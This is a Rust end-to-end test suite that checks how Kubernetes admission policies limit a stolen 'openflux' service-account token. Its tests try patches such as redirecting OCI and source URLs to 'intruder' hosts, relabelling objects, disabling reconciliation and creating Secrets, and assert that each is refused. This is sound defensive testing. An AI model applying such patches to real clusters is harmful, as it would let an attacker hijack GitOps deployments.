//! End to end: what openflux's own identity may write, on the local control
//! plane, where openflux runs under a client certificate of its own
//! (`system:serviceaccount:openflux-system:openflux`) bound by exactly the
//! shipped `manifests/rbac.yaml`. These tests use those very credentials
//! (the test kit's `identity::openflux_client`), so what they show is what
//! a stolen openflux token could do.
//!
//! RBAC lets openflux patch every consumer and write every Artifact,
//! ExternalArtifact and OCIRepository, patch its webhook configurations and
//! create any ValidatingWebhookConfiguration; the shipped policies
//! (`webhook-config/openflux-policy.yaml`, `secret-policy.yaml`,
//! `registration-policy.yaml`) narrow it: on a consumer only the source
//! reference, pointed at an export, and openflux's annotations; only the
//! Artifacts and exports labelled as openflux's, an export only as an
//! Artifact's; no Secret but its certificates; of its webhook
//! configurations only the CA bundles, and no other but the validating one
//! it ships. The rewrites openflux does make pass under the same policies:
//! every other e2e suite runs openflux with these credentials.

use openflux_testkit as support;

use k8s_openapi::api::admissionregistration::v1::{
    MutatingWebhookConfiguration, ValidatingWebhookConfiguration,
};
use k8s_openapi::api::core::v1::{Secret, Service};
use k8s_openapi::api::rbac::v1::ClusterRole;
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use kube::core::DynamicObject;
use kube::{Api, Resource, ResourceExt};
use openflux::registration::configuration::{self, Target, Write};
use serde_json::{json, Value};
use support::identity::openflux_client;
use support::{cluster, wait_for, Cell, Env, TIMEOUT};

/// The policies under test, applied by each test as shipped (a control
/// plane started before they existed gets them too).
const POLICIES: &str = include_str!("../../webhook-config/openflux-policy.yaml");
const SECRET_POLICY: &str = include_str!("../../webhook-config/secret-policy.yaml");
const REGISTRATION_POLICY: &str = include_str!("../../webhook-config/registration-policy.yaml");
/// openflux's MutatingWebhookConfiguration and the Service its validating
/// one calls, as shipped.
const MUTATING_WEBHOOK: &str = include_str!("../../webhook-config/mutating-webhook.yaml");
const WEBHOOK_SERVICE: &str = include_str!("../../manifests/service.yaml");

const SOURCE: &str = "source.toolkit.fluxcd.io/v1";
const MANAGED_BY: &str = "app.kubernetes.io/managed-by";

/// One consumer kind: an object of it with a stock reference, the field
/// openflux rewrites, a change of another spec field, and a re-pointed
/// reference (to an export) as openflux would write it.
struct Case {
    kind: &'static str,
    api_version: &'static str,
    object: fn(&str, &str) -> Value,
    field: &'static str,
    other_spec: Value,
    /// A merge patch re-pointing the reference at the export `name`.
    repoint: fn(&str) -> Value,
    /// A merge patch pointing the reference at a stock source that is not
    /// an export.
    elsewhere: Value,
    /// JSON pointer of the reference after the re-point (to check it).
    pointer: &'static str,
    /// The name of an export the consumer may be re-pointed at, from a
    /// prefix.
    export: fn(&str) -> String,
}

/// An export's name as openflux gives it (`<name>-<kind>--<hash>`).
fn export_named(prefix: &str) -> String {
    openflux::names::identity::source_export_name(
        "sources.openflux.dev",
        "HttpSource",
        &format!("{prefix}-web"),
    )
}

/// `openflux.dev/source-ref` as the mutating webhook records HttpSource
/// `name` written in a consumer of `kind` (an ArtifactGenerator's by the
/// alias the cases re-point, `one`).
fn recorded_source(kind: &str, name: &str) -> String {
    let source =
        json!({"apiVersion": "sources.openflux.dev/v1alpha1", "kind": "HttpSource", "name": name});
    match kind {
        "ArtifactGenerator" => json!({"one": {"kind": "HttpSource", "name": name}}).to_string(),
        _ => source.to_string(),
    }
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            kind: "Kustomization",
            api_version: "kustomize.toolkit.fluxcd.io/v1",
            object: |ns, name| {
                json!({"apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
                       "metadata": {"name": name, "namespace": ns},
                       "spec": {"interval": "17m", "prune": true, "suspend": true, "path": "./apps",
                                "sourceRef": {"kind": "GitRepository", "name": "repo"}}})
            },
            field: "spec.sourceRef",
            other_spec: json!({"spec": {"path": "./elsewhere"}}),
            repoint: |to| json!({"spec": {"sourceRef": {"kind": "ExternalArtifact", "name": to}}}),
            elsewhere: json!({"spec": {"sourceRef": {"kind": "GitRepository", "name": "flux-system", "namespace": "flux-system"}}}),
            pointer: "/spec/sourceRef/name",
            export: export_named,
        },
        Case {
            kind: "HelmRelease",
            api_version: "helm.toolkit.fluxcd.io/v2",
            object: |ns, name| {
                json!({"apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease",
                       "metadata": {"name": name, "namespace": ns},
                       "spec": {"interval": "9m", "suspend": true, "releaseName": "rel",
                                "chartRef": {"kind": "OCIRepository", "name": "chart"}}})
            },
            field: "spec.chartRef",
            other_spec: json!({"spec": {"values": {"image": "example.invalid/other"}}}),
            repoint: |to| json!({"spec": {"chartRef": {"kind": "OCIRepository", "name": to}}}),
            elsewhere: json!({"spec": {"chartRef": {"kind": "HelmChart", "name": "other"}}}),
            pointer: "/spec/chartRef/name",
            export: export_named,
        },
        Case {
            kind: "ArtifactGenerator",
            api_version: "source.extensions.fluxcd.io/v1beta1",
            object: |ns, name| {
                json!({"apiVersion": "source.extensions.fluxcd.io/v1beta1", "kind": "ArtifactGenerator",
                       "metadata": {"name": name, "namespace": ns},
                       "spec": {"sources": [{"alias": "one", "kind": "GitRepository", "name": "repo"},
                                            {"alias": "two", "kind": "Bucket", "name": "bucket"}],
                                "artifacts": [{"name": "out", "copy": [{"from": "@one/**", "to": "@artifact/"}]}]}})
            },
            field: "spec.sources",
            other_spec: json!({"spec": {"artifacts": [{"name": "out", "copy": [{"from": "@two/**", "to": "@artifact/"}]}]}}),
            repoint: |to| {
                json!({"spec": {"sources": [{"alias": "one", "kind": "ExternalArtifact", "name": to},
                                            {"alias": "two", "kind": "Bucket", "name": "bucket"}]}})
            },
            elsewhere: json!({"spec": {"sources": [{"alias": "one", "kind": "GitRepository", "name": "repo"},
                                                   {"alias": "two", "kind": "Bucket", "name": "stolen"}]}}),
            pointer: "/spec/sources/0/name",
            export: export_named,
        },
        Case {
            kind: "Stack",
            api_version: "pulumi.com/v1",
            object: |ns, name| {
                json!({"apiVersion": "pulumi.com/v1", "kind": "Stack",
                       "metadata": {"name": name, "namespace": ns},
                       "spec": {"stack": "org/app/dev",
                                "fluxSource": {"dir": "infra",
                                               "sourceRef": {"apiVersion": SOURCE, "kind": "GitRepository", "name": "repo"}}}})
            },
            field: "spec.fluxSource.sourceRef",
            other_spec: json!({"spec": {"fluxSource": {"dir": "other"}}}),
            repoint: |to| json!({"spec": {"fluxSource": {"sourceRef": {"apiVersion": SOURCE, "kind": "OCIRepository", "name": to}}}}),
            elsewhere: json!({"spec": {"fluxSource": {"sourceRef": {"apiVersion": SOURCE, "kind": "Bucket", "name": "bucket"}}}}),
            pointer: "/spec/fluxSource/sourceRef/name",
            export: export_named,
        },
    ]
}

/// Applies the shipped policies and the CRDs of every consumer kind.
async fn install(env: &Env) {
    env.apply_yaml(POLICIES)
        .await
        .expect("the shipped openflux policies");
    env.apply_yaml(SECRET_POLICY)
        .await
        .expect("the shipped Secret policy");
    env.apply_yaml(REGISTRATION_POLICY)
        .await
        .expect("the shipped policies on webhook configurations and exports");
    let stacks = support::workspace_root().join("e2e/crds/pulumi-stack.yaml");
    env.apply_yaml(&std::fs::read_to_string(&stacks).expect("the Stack CRD"))
        .await
        .expect("installing the Stack CRD");
    support::install_artifact_crd(env).await;
    support::wait_established(
        env,
        &[
            "stacks.pulumi.com",
            "kustomizations.kustomize.toolkit.fluxcd.io",
            "helmreleases.helm.toolkit.fluxcd.io",
            "artifactgenerators.source.extensions.fluxcd.io",
            "artifacts.openflux.dev",
        ],
    )
    .await;
}

/// The API server's refusal of `result`, naming the policy; panics when
/// it was admitted or refused for another reason.
fn refusal<T: std::fmt::Debug>(what: &str, policy: &str, result: Result<T, kube::Error>) -> String {
    match result {
        Err(kube::Error::Api(e)) if e.message.contains(&format!("'{policy}'")) => e.message,
        other => panic!("{what}: not refused by {policy}: {other:?}"),
    }
}

/// Retries `attempt` until the policy refuses it (a policy takes effect
/// shortly after it is written), then returns the message.
async fn first_refusal<F, Fut, T>(what: &str, policy: &str, mut attempt: F) -> String
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Result<T, kube::Error>>,
    T: std::fmt::Debug,
{
    wait_for(&format!("{policy} to refuse {what}"), TIMEOUT, || {
        let call = attempt();
        let policy = policy.to_string();
        async move {
            match call.await {
                Err(kube::Error::Api(e)) if e.message.contains(&format!("'{policy}'")) => {
                    Some(e.message)
                }
                _ => None,
            }
        }
    })
    .await
}

/// On every consumer kind openflux's credentials change the source
/// reference to an export, with openflux's annotation, and nothing else:
/// another spec field (a Kustomization's `path`), a reference to something
/// that is not an export, labels, other annotations and finalizers are
/// refused with a message naming what changed, and the object keeps them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_changes_only_the_source_reference_of_a_consumer() {
    openflux_changes_only_the_source_reference_of_a_consumer_on(Cell::Main).await;
}

/// [`openflux_changes_only_the_source_reference_of_a_consumer`] on `cell`'s control plane (e2e_kubernetes runs it on
/// every Kubernetes line).
pub(crate) async fn openflux_changes_only_the_source_reference_of_a_consumer_on(cell: Cell) {
    let env = support::cell(cell).await;
    install(&env).await;
    let ns = env.namespace("privilege-consumers").await;
    let n = ns.name().to_string();
    let openflux = openflux_client(&env).await;
    let pp = PatchParams::default();
    let policy = "openflux-consumer-references";
    for case in cases() {
        let name = format!("{}-tenant", case.kind.to_lowercase());
        let created = env
            .apply(&(case.object)(&n, &name))
            .await
            .unwrap_or_else(|e| panic!("creating {} {name}: {e:#}", case.kind));
        let (api, _) = support::dynamic_api(&openflux, case.api_version, case.kind, Some(&n))
            .await
            .expect("discovery");
        let merge = |v: &Value| Patch::Merge(v.clone());
        let message = first_refusal(&format!("a change of {}'s spec", case.kind), policy, || {
            let (api, name, change) = (api.clone(), name.clone(), case.other_spec.clone());
            async move {
                api.patch(&name, &PatchParams::default(), &Patch::Merge(change))
                    .await
            }
        })
        .await;
        assert!(
            message.contains(&format!(
                "refused an update that changes spec beside {}",
                case.field
            )) && message.contains(&format!("{} {n}/{name}", case.kind)),
            "{message}"
        );
        let message = refusal(
            "a reference to a stock source",
            policy,
            api.patch(&name, &pp, &merge(&case.elsewhere)).await,
        );
        assert!(
            message.contains(&format!(
                "{} to something that is not an export",
                case.field
            )),
            "{message}"
        );
        let message = refusal(
            "a label",
            policy,
            api.patch(
                &name,
                &pp,
                &merge(&json!({"metadata": {"labels": {"team.example.com/owner": "intruder"}}})),
            )
            .await,
        );
        assert!(message.contains("changes labels"), "{message}");
        let message = refusal(
            "another annotation",
            policy,
            api.patch(
                &name,
                &pp,
                &merge(&json!({"metadata": {"annotations": {"kustomize.toolkit.fluxcd.io/reconcile": "disabled"}}})),
            )
            .await,
        );
        assert!(message.contains("annotations other than"), "{message}");
        let message = refusal(
            "a finalizer",
            policy,
            api.patch(
                &name,
                &pp,
                &merge(&json!({"metadata": {"finalizers": ["example.com/hold"]}})),
            )
            .await,
        );
        assert!(
            message.contains("finalizers or owner references"),
            "{message}"
        );
        let after = env
            .find(case.api_version, case.kind, &n, &name)
            .await
            .expect("the consumer");
        assert_eq!(after.data["spec"], created.data["spec"], "{}", case.kind);
        assert_eq!(after.metadata.labels, created.metadata.labels);

        // A consumer whose author never named a custom source (no
        // openflux.dev/source-ref, as Flux's own flux-system Kustomization)
        // is pointed at no export, not even one shaped right.
        let moved_to = |export: &str| {
            let mut moved = (case.repoint)(export);
            moved["metadata"] = json!({"annotations": {"openflux.dev/moved-from": "[]"}});
            moved
        };
        let export = (case.export)(&name);
        let message = refusal(
            "re-pointing a consumer that names no custom source",
            policy,
            api.patch(&name, &pp, &merge(&moved_to(&export))).await,
        );
        assert!(
            message.contains("not the export of the source recorded in openflux.dev/source-ref"),
            "{message}"
        );
        // Its author names a custom source: the mutating webhook records
        // it, under the author's identity.
        let recorded = recorded_source(case.kind, &format!("{name}-web"));
        let annotate =
            |value: &str| json!({"metadata": {"annotations": {"openflux.dev/source-ref": value}}});
        support::merge_patch(
            &env.client,
            case.api_version,
            case.kind,
            &n,
            &name,
            &annotate(&recorded),
        )
        .await
        .expect("the author's record of the custom source");
        // openflux may neither point it at another source's export nor
        // change the record.
        let message = refusal(
            "re-pointing at another source's export",
            policy,
            api.patch(&name, &pp, &merge(&moved_to(&(case.export)("other"))))
                .await,
        );
        assert!(
            message.contains("not the export of the source recorded"),
            "{message}"
        );
        // (A Stack's reference has no namespace field.)
        if case.kind != "Stack" {
            let mut elsewhere = moved_to(&export);
            let reference = case.pointer.rsplit_once('/').map_or("", |(r, _)| r);
            elsewhere
                .pointer_mut(reference)
                .and_then(Value::as_object_mut)
                .expect("the reference in the patch")
                .insert("namespace".into(), json!("flux-system"));
            let message = refusal(
                "re-pointing at the export's name in another namespace",
                policy,
                api.patch(&name, &pp, &merge(&elsewhere)).await,
            );
            assert!(
                message.contains("not the export of the source recorded"),
                "{message}"
            );
        }
        let message = refusal(
            "rewriting the record",
            policy,
            api.patch(
                &name,
                &pp,
                &merge(&annotate(&recorded_source(case.kind, "other-web"))),
            )
            .await,
        );
        assert!(message.contains("annotations other than"), "{message}");

        // What openflux does write: the reference, to the recorded
        // source's export, and its annotation saying where the consumer
        // pointed before.
        api.patch(&name, &pp, &merge(&moved_to(&export)))
            .await
            .unwrap_or_else(|e| panic!("re-pointing {} {name} as openflux: {e}", case.kind));
        let after = env
            .find(case.api_version, case.kind, &n, &name)
            .await
            .expect("the consumer");
        assert_eq!(after.data.pointer(case.pointer), Some(&json!(export)));
    }
    ns.delete().await;
}

/// openflux's credentials create, change and delete only the Artifacts,
/// ExternalArtifacts and OCIRepositories labelled as openflux's: someone
/// else's object (an OCIRepository openflux does not manage) cannot be
/// changed, taken over by labelling it, have its status written or be
/// deleted, and nothing can be created without the label; an object with
/// it can (an export as an Artifact's, see
/// `openflux_creates_an_export_only_as_an_artifacts`), and can be deleted
/// again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_writes_only_the_objects_it_manages() {
    let env = cluster().await;
    install(&env).await;
    let ns = env.namespace("privilege-objects").await;
    let n = ns.name().to_string();
    let openflux = openflux_client(&env).await;
    let pp = PatchParams::default();
    let policy = "openflux-own-objects";
    let owned_by = owned_by_artifact(&env, &n, "owner").await;
    let objects = [
        (
            SOURCE,
            "OCIRepository",
            json!({"url": "oci://127.0.0.1:1/team/app", "interval": "7m", "ref": {"tag": "v3"}}),
            json!({"spec": {"url": "oci://127.0.0.1:1/intruder/app"}}),
        ),
        (
            SOURCE,
            "ExternalArtifact",
            json!({"sourceRef": {"apiVersion": "team.example.com/v1", "kind": "Thing", "name": "a"}}),
            json!({"spec": {"sourceRef": {"name": "b"}}}),
        ),
        (
            "openflux.dev/v1alpha1",
            "Artifact",
            json!({"url": "http://127.0.0.1:1/a.tar.gz", "revision": "v1",
                   "digest": format!("sha256:{}", "0".repeat(64)), "path": "a.tar.gz"}),
            json!({"spec": {"url": "http://127.0.0.1:1/intruder.tar.gz"}}),
        ),
    ];
    for (api_version, kind, spec, change) in objects {
        let theirs = format!("{}-theirs", kind.to_lowercase());
        let created = env
            .apply(&json!({"apiVersion": api_version, "kind": kind,
                          "metadata": {"name": theirs, "namespace": n}, "spec": spec}))
            .await
            .unwrap_or_else(|e| panic!("creating {kind} {theirs}: {e:#}"));
        let (api, _) = support::dynamic_api(&openflux, api_version, kind, Some(&n))
            .await
            .expect("discovery");
        let message = first_refusal(&format!("a change of another's {kind}"), policy, || {
            let (api, name, change) = (api.clone(), theirs.clone(), change.clone());
            async move {
                api.patch(&name, &PatchParams::default(), &Patch::Merge(change))
                    .await
            }
        })
        .await;
        assert!(
            message.contains(&format!("{kind} {n}/{theirs} is not managed by openflux")),
            "{message}"
        );
        refusal(
            &format!("labelling another's {kind} as openflux's"),
            policy,
            api.patch(
                &theirs,
                &pp,
                &Patch::Merge(json!({"metadata": {"labels": {MANAGED_BY: "openflux"}}})),
            )
            .await,
        );
        if kind != "Artifact" {
            refusal(
                &format!("writing another's {kind} status"),
                policy,
                api.patch_status(
                    &theirs,
                    &pp,
                    &Patch::Merge(json!({"status": {"observedGeneration": 42}})),
                )
                .await,
            );
        }
        refusal(
            &format!("deleting another's {kind}"),
            policy,
            api.delete(&theirs, &DeleteParams::default()).await,
        );
        // An export as openflux makes it (the export of an Artifact), but
        // without the label.
        let metadata = if kind == "Artifact" {
            json!({"name": "artifact-new", "namespace": n})
        } else {
            json!({"name": openflux::names::identity::artifact_export_name("owner"),
                   "namespace": n, "ownerReferences": owned_by})
        };
        let unlabelled: DynamicObject = serde_json::from_value(json!({
            "apiVersion": api_version, "kind": kind, "metadata": metadata, "spec": spec}))
        .expect("an object");
        let message = refusal(
            &format!("creating a {kind} without openflux's label"),
            policy,
            api.create(&PostParams::default(), &unlabelled).await,
        );
        assert!(
            message.contains("would be created without that label"),
            "{message}"
        );
        let now = env
            .find(api_version, kind, &n, &theirs)
            .await
            .unwrap_or_else(|| panic!("{kind} {theirs} was deleted"));
        assert_eq!(now.data["spec"], created.data["spec"], "{kind}");
        assert!(!now
            .metadata
            .labels
            .unwrap_or_default()
            .contains_key(MANAGED_BY));

        // openflux's own: created, changed and deleted.
        let mut own = unlabelled.clone();
        own.metadata.labels = Some([(MANAGED_BY.to_string(), "openflux".to_string())].into());
        let name = own.metadata.name.clone().unwrap_or_default();
        api.create(&PostParams::default(), &own)
            .await
            .unwrap_or_else(|e| panic!("openflux creating its own {kind}: {e}"));
        let message = refusal(
            &format!("taking openflux's label off its {kind}"),
            policy,
            api.patch(
                &name,
                &pp,
                &Patch::Merge(json!({"metadata": {"labels": {MANAGED_BY: null}}})),
            )
            .await,
        );
        assert!(message.contains("would lose that label"), "{message}");
        api.patch(
            &name,
            &pp,
            &Patch::Merge(json!({"metadata": {"labels": {"openflux.dev/artifact": "x"}}})),
        )
        .await
        .unwrap_or_else(|e| panic!("openflux labelling its own {kind}: {e}"));
        api.delete(&name, &DeleteParams::default())
            .await
            .unwrap_or_else(|e| panic!("openflux deleting its own {kind}: {e}"));
    }
    ns.delete().await;
}

/// openflux's credentials create no Secret but its certificate Secret
/// (`openflux-webhook-tls`, of type `kubernetes.io/tls`), in the namespace
/// its Role covers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_writes_no_secret_but_its_certificates() {
    openflux_writes_no_secret_but_its_certificates_on(Cell::Main).await;
}

/// [`openflux_writes_no_secret_but_its_certificates`] on `cell`'s control plane (e2e_kubernetes runs it on
/// every Kubernetes line).
pub(crate) async fn openflux_writes_no_secret_but_its_certificates_on(cell: Cell) {
    let env = support::cell(cell).await;
    install(&env).await;
    let ns = env.namespace("privilege-secrets").await;
    let n = ns.name().to_string();
    support::identity::grant_runtime_namespace(&env, &n).await;
    let secrets: Api<Secret> = Api::namespaced(openflux_client(&env).await, &n);
    let admin: Api<Secret> = Api::namespaced(env.client.clone(), &n);
    let secret = |name: &str, type_: &str| -> Secret {
        serde_json::from_value(json!({
            "metadata": {"name": name},
            "type": type_,
            "stringData": {"tls.crt": "x", "tls.key": "y"}
        }))
        .expect("a Secret")
    };
    let message = first_refusal("another Secret", "openflux-secrets", || {
        let s = secret("registry-credentials", "Opaque");
        let secrets = secrets.clone();
        async move { secrets.create(&PostParams::default(), &s).await }
    })
    .await;
    assert!(
        message.contains("openflux may write only the Secret openflux-webhook-tls"),
        "{message}"
    );
    refusal(
        "its certificate Secret's name with another type",
        "openflux-secrets",
        secrets
            .create(
                &PostParams::default(),
                &secret("openflux-webhook-tls", "Opaque"),
            )
            .await,
    );
    secrets
        .create(
            &PostParams::default(),
            &secret("openflux-webhook-tls", "kubernetes.io/tls"),
        )
        .await
        .expect("its certificate Secret");
    assert!(admin
        .get_opt("registry-credentials")
        .await
        .expect("reading")
        .is_none());
    ns.delete().await;
}

/// A custom source kind whose producer lets openflux patch it (a ClusterRole
/// aggregated into openflux's `openflux-sources`, as the HttpSource
/// manifests ship one; this one also grants delete and the status
/// subresource): openflux hands a reconcile request set on the export on to
/// the source, under the policy, and its credentials change nothing else of
/// the source: not its spec, its labels or its status, and they delete
/// nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_hands_on_only_reconcile_requests_to_custom_sources() {
    const GROUP: &str = "widgets.privilege.e2e.openflux.dev";
    let source_api = format!("{GROUP}/v1");
    let env = cluster().await;
    install(&env).await;
    // The TestSource CRD, with a status subresource.
    env.apply(&json!({
        "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
        "metadata": {"name": format!("testsources.{GROUP}")},
        "spec": {
            "group": GROUP, "scope": "Namespaced",
            "names": {"kind": "TestSource", "plural": "testsources", "singular": "testsource"},
            "versions": [{
                "name": "v1", "served": true, "storage": true,
                "subresources": {"status": {}},
                "schema": {"openAPIV3Schema": {"type": "object", "x-kubernetes-preserve-unknown-fields": true}}
            }]
        }
    }))
    .await
    .expect("the TestSource CRD");
    support::wait_established(&env, &[&format!("testsources.{GROUP}")]).await;
    let role = support::unique_name("privilege-source-requests");
    env.apply(&json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": {"name": role, "labels": {"openflux.dev/aggregate-to-openflux": "true"}},
        "rules": [{"apiGroups": [GROUP], "resources": ["testsources", "testsources/status"],
                   "verbs": ["get", "patch", "update", "delete"]}]
    }))
    .await
    .expect("the producer's ClusterRole for openflux");
    let ns = env.namespace("privilege-sources").await;
    let n = ns.name().to_string();
    let _of = support::openflux::Openflux::start(
        &env,
        &n,
        &[
            "--watch-all-namespaces=false",
            &format!("--namespace={n}"),
            &format!("--webhook-addr={}", support::openflux::free_addr()),
        ],
    )
    .await;
    let source = env
        .apply(&json!({"apiVersion": source_api, "kind": "TestSource",
                       "metadata": {"name": "shop", "namespace": n},
                       "spec": {"endpoint": "https://team.example.com/shop"}}))
        .await
        .expect("the custom source");
    let spec = support::openflux::publish(
        env.fixtures(),
        &n,
        "shop",
        "v1",
        &[("configmap.yaml", &support::configmap_yaml("shop"))],
    );
    env.apply(&json!({
        "apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact",
        "metadata": {"name": "shop", "namespace": n, "ownerReferences": [
            {"apiVersion": source_api, "kind": "TestSource", "name": "shop",
             "uid": source.metadata.uid.clone().expect("uid"), "controller": true}]},
        "spec": spec,
    }))
    .await
    .expect("the Artifact");
    let (_, export) = support::exports::wait_export(&env, &n, "shop", |_| true).await;
    let (kind, name) = (
        export
            .types
            .as_ref()
            .map(|t| t.kind.clone())
            .unwrap_or_default(),
        export.metadata.name.clone().unwrap_or_default(),
    );

    // A reconcile request on the export, handed on by openflux. It is set
    // here with openflux's credentials: the shipped policy on exports
    // (openflux-managed-externalartifacts) lets nobody else change an
    // export's annotations, this one included.
    let requested = support::unique_name("requested");
    let openflux = openflux_client(&env).await;
    support::dynamic_api(&openflux, SOURCE, &kind, Some(&n))
        .await
        .expect("discovery")
        .0
        .patch(
            &name,
            &PatchParams::default(),
            &Patch::Merge(json!({"metadata": {"annotations": {"reconcile.fluxcd.io/requestedAt": requested}}})),
        )
        .await
        .expect("requesting a reconcile on the export");
    wait_for(
        "openflux to hand the request to the source",
        TIMEOUT,
        || async {
            let s = env.find(&source_api, "TestSource", &n, "shop").await?;
            (s.metadata
                .annotations?
                .get("reconcile.fluxcd.io/requestedAt")?
                == &requested)
                .then_some(())
        },
    )
    .await;

    let (api, _) = support::dynamic_api(
        &openflux_client(&env).await,
        &source_api,
        "TestSource",
        Some(&n),
    )
    .await
    .expect("discovery");
    let policy = "openflux-source-requests";
    let pp = PatchParams::default();
    let message = refusal(
        "a change of the source's spec",
        policy,
        api.patch(
            "shop",
            &pp,
            &Patch::Merge(json!({"spec": {"endpoint": "https://intruder.example.com/"}})),
        )
        .await,
    );
    assert!(
        message.contains(&format!("TestSource {n}/shop"))
            && message.contains("refused an update that changes more than that"),
        "{message}"
    );
    refusal(
        "a label on the source",
        policy,
        api.patch(
            "shop",
            &pp,
            &Patch::Merge(json!({"metadata": {"labels": {"team.example.com/owner": "intruder"}}})),
        )
        .await,
    );
    let message = refusal(
        "deleting the source",
        policy,
        api.delete("shop", &DeleteParams::default()).await,
    );
    assert!(message.contains("refused to delete it"), "{message}");
    // Nor its status, though RBAC grants it: the policy holds subresources.
    let message = refusal(
        "writing the source's status",
        policy,
        api.patch_status(
            "shop",
            &pp,
            &Patch::Merge(json!({"status": {"observedGeneration": 42}})),
        )
        .await,
    );
    assert!(message.contains("refused an update"), "{message}");
    let now = env
        .find(&source_api, "TestSource", &n, "shop")
        .await
        .expect("the source");
    assert_eq!(now.data["spec"], source.data["spec"]);
    ns.delete().await;
    env.delete_object("rbac.authorization.k8s.io/v1", "ClusterRole", "", &role)
        .await;
}

/// An Artifact `name` in `ns`, made by the administrator: the owner
/// references an export of it carries, as the export controller writes
/// them (controller, by UID).
async fn owned_by_artifact(env: &Env, ns: &str, name: &str) -> Value {
    let artifact = env
        .apply(&json!({
            "apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact",
            "metadata": {"name": name, "namespace": ns},
            "spec": {"url": format!("http://127.0.0.1:1/{name}.tar.gz"), "revision": "v1",
                     "digest": format!("sha256:{}", "0".repeat(64)), "path": format!("{name}.tar.gz")}
        }))
        .await
        .unwrap_or_else(|e| panic!("the Artifact {name}: {e:#}"));
    json!([{"apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact", "name": name,
            "uid": artifact.metadata.uid.expect("the Artifact's uid"), "controller": true}])
}

/// openflux's credentials create an ExternalArtifact or OCIRepository, even
/// labelled as openflux's, only as an export: controlled by an Artifact and
/// named as openflux names exports. Neither one without an Artifact owner
/// nor one owned by an Artifact under another name (such as an
/// ArtifactGenerator's output, which would lock its producer out) is
/// admitted; the export the controller would write is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openflux_creates_an_export_only_as_an_artifacts() {
    let env = cluster().await;
    install(&env).await;
    let ns = env.namespace("privilege-exports").await;
    let n = ns.name().to_string();
    let openflux = openflux_client(&env).await;
    let owned_by = owned_by_artifact(&env, &n, "web").await;
    let export = openflux::names::identity::artifact_export_name("web");
    let dry = PostParams {
        dry_run: true,
        ..Default::default()
    };
    let policy = "openflux-export-owners";
    for (kind, spec) in [
        (
            "ExternalArtifact",
            json!({"sourceRef": {"apiVersion": "openflux.dev/v1alpha1", "kind": "Artifact", "name": "web"}}),
        ),
        (
            "OCIRepository",
            json!({"url": format!("oci://127.0.0.1:1/{n}/web"), "interval": "10m",
                   "ref": {"tag": "latest"}, "suspend": true}),
        ),
    ] {
        let (api, _) = support::dynamic_api(&openflux, SOURCE, kind, Some(&n))
            .await
            .expect("discovery");
        let object = |name: &str, owners: &Value| -> DynamicObject {
            serde_json::from_value(json!({
                "apiVersion": SOURCE, "kind": kind,
                "metadata": {"name": name, "namespace": n,
                             "labels": {MANAGED_BY: "openflux"}, "ownerReferences": owners},
                "spec": spec}))
            .expect("an object")
        };
        let unowned = object(&export, &json!([]));
        let message = first_refusal(&format!("a {kind} no Artifact owns"), policy, || {
            let (api, unowned, dry) = (api.clone(), unowned.clone(), dry.clone());
            async move { api.create(&dry, &unowned).await }
        })
        .await;
        assert!(
            message.contains(&format!(
                "refused to create {kind} {n}/{export}, which no Artifact controls"
            )),
            "{message}"
        );
        let message = refusal(
            &format!("an Artifact's {kind} under another producer's name"),
            policy,
            api.create(&dry, &object("app-output", &owned_by)).await,
        );
        assert!(
            message.contains(&format!(
                "refused to create {kind} {n}/app-output, whose name is not an export name"
            )),
            "{message}"
        );
        api.create(&dry, &object(&export, &owned_by))
            .await
            .unwrap_or_else(|e| panic!("openflux creating the export {kind} {export}: {e}"));
    }
    ns.delete().await;
}

/// The label of the webhook configurations these tests make under
/// openflux's names, standing in for openflux's own.
const STAND_IN: &str = "e2e.openflux.dev/stand-in";

/// Webhook configurations the administrator made under openflux's names,
/// with every entry calling for no object (an objectSelector no object
/// matches), so they change no admission while they stand; deleted on drop.
struct StandIns {
    config: kube::Config,
    names: Vec<(&'static str, String)>,
}

impl StandIns {
    /// Makes `config` unless a configuration of its kind and name exists
    /// that is not a stand-in (then the tests, dry runs all, use that one).
    async fn make(&mut self, env: &Env, mut config: Value) {
        let kind = if config["kind"] == "MutatingWebhookConfiguration" {
            "MutatingWebhookConfiguration"
        } else {
            "ValidatingWebhookConfiguration"
        };
        let name = config["metadata"]["name"]
            .as_str()
            .expect("a name")
            .to_string();
        let existing = env
            .get(ADMISSION, kind, None, &name)
            .await
            .expect("reading the webhook configuration");
        if existing.is_some_and(|c| !c.labels().contains_key(STAND_IN)) {
            return;
        }
        for entry in config["webhooks"].as_array_mut().expect("entries") {
            entry["objectSelector"] = json!({"matchLabels": {STAND_IN: "no-object"}});
        }
        config["metadata"]["labels"][STAND_IN] = json!("true");
        env.apply(&config)
            .await
            .unwrap_or_else(|e| panic!("the stand-in {kind} {name}: {e:#}"));
        self.names.push((kind, name));
    }
}

impl Drop for StandIns {
    fn drop(&mut self) {
        let (config, names) = (self.config.clone(), std::mem::take(&mut self.names));
        let _ = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .expect("a runtime");
            rt.block_on(async {
                let Ok(client) = kube::Client::try_from(config) else {
                    return;
                };
                for (kind, name) in names {
                    let dp = DeleteParams::default();
                    let deleted = if kind == "MutatingWebhookConfiguration" {
                        let api: Api<MutatingWebhookConfiguration> = Api::all(client.clone());
                        api.delete(&name, &dp).await.map(|_| ())
                    } else {
                        let api: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
                        api.delete(&name, &dp).await.map(|_| ())
                    };
                    if let Err(e) = deleted {
                        eprintln!("deleting the stand-in {kind} {name}: {e}");
                    }
                }
            });
        })
        .join();
    }
}

const ADMISSION: &str = "admissionregistration.k8s.io/v1";

